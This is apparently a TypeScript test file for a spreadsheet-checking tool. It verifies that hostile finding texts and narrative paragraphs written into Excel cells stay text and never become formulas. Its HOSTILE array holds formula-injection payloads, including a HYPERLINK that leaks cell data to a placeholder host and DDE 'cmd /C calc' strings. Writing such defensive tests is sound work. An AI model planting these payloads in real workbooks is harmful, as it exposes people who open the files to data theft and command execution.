// Text we write into cells never becomes a formula: finding texts in the annotated copy (results sheet and notes)
// and the drafted narrative inserted by the Office layer, even when they start with = + - @ (CSV/formula
// injection), so opening the file never runs anything a workbook or a message smuggled in.
import JSZip from 'jszip';
import type { Finding } from '../../src/engine/report';
import { insertNarrativeSheet } from '../../src/office/narrative-sheet';
import { annotateWorkbook } from '../../src/xlsx/annotate';
import { specToXlsx } from '../fixtures/workbook-spec';
import { FakeContext, fakeSheet, type FakeBook } from '../office/fake-excel';

const HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点我")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1'];

function finding(message: string, i: number): Finding {
  return { rule: HOSTILE[i % HOSTILE.length], severity: 'error', sheet: '表1', cell: `B${i + 2}`, message, expected: HOSTILE[(i + 1) % HOSTILE.length], actual: HOSTILE[(i + 2) % HOSTILE.length] };
}

/** Every <f> (formula) element in the package's worksheets, by part name. */
async function formulas(bytes: Uint8Array): Promise<Record<string, string[]>> {
  const zip = await JSZip.loadAsync(bytes);
  const out: Record<string, string[]> = {};
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))) {
    const xml = (await zip.file(name)?.async('string')) ?? '';
    out[name] = [...xml.matchAll(/<f[ >][^<]*<\/f>|<f\/>/g)].map((m) => m[0]);
  }
  return out;
}

async function allText(bytes: Uint8Array): Promise<string> {
  const zip = await JSZip.loadAsync(bytes);
  const parts = Object.keys(zip.files).filter((n) => n.endsWith('.xml'));
  return (await Promise.all(parts.map((p) => zip.file(p)?.async('string') ?? ''))).join('\n');
}

describe('annotated copy: hostile finding texts stay text', () => {
  it('writes no formula anywhere when the input has none, yet carries every hostile text', async () => {
    const input = new Uint8Array(await specToXlsx({ sheets: [{ name: '表1', rows: [['项目', '金额'], ['合计', 3232.07], ['行政运行', 95.46], ['事业运行', 383.86], ['住房公积金', 38.7], ['其他', 1]] }] }));
    const findings = HOSTILE.map((m, i) => finding(m, i));
    const out = await annotateWorkbook(input, findings);
    const perSheet = await formulas(out);
    expect(Object.keys(perSheet).length).toBeGreaterThanOrEqual(2);
    expect(Object.values(perSheet).flat()).toEqual([]);
    const text = await allText(out);
    // Escaped as XML text (& and " become entities), present as strings in cells and notes.
    expect(text).toContain('=1+1');
    expect(text).toContain('@SUM(1+1)');
  });

  it('keeps the formulas that were already in the input (the check above can see a formula)', async () => {
    const input = new Uint8Array(await specToXlsx({ sheets: [{ name: '表1', rows: [['合计', { v: 3, f: 'B2+B3' }], ['a', 1], ['b', 2]] }] }));
    const out = await annotateWorkbook(input, [finding('=1+1', 0)]);
    expect(Object.values(await formulas(out)).flat()).toEqual(['<f>B2+B3</f>']);
  });
});

describe('Office layer: the narrative sheet is text, never formulas', () => {
  it('sets the text format on every cell before any value lands, for = + - @ paragraphs', async () => {
    const book: FakeBook = { sheets: [fakeSheet('表1', [['a']])], comments: [] };
    const ctx = new FakeContext(book);
    const violations: string[] = [];
    const enqueue = ctx.enqueue.bind(ctx);
    // After every queued operation runs, no cell of the new sheet may hold a value without the text format.
    ctx.enqueue = (op) =>
      enqueue({
        bytes: op.bytes,
        apply: () => {
          const r = op.apply();
          for (const s of book.sheets.slice(1)) for (const [k, c] of s.cells) if (c.value !== '' && c.numFmt !== '@') violations.push(`${k}=${String(c.value)}`);
          return r;
        },
      });
    await insertNarrativeSheet(ctx, HOSTILE);
    const sheet = book.sheets[1];
    expect(violations).toEqual([]);
    expect([...sheet.cells.values()].map((c) => [c.value, c.numFmt, c.formula])).toEqual(HOSTILE.map((p) => [p, '@', undefined]));
  });
});
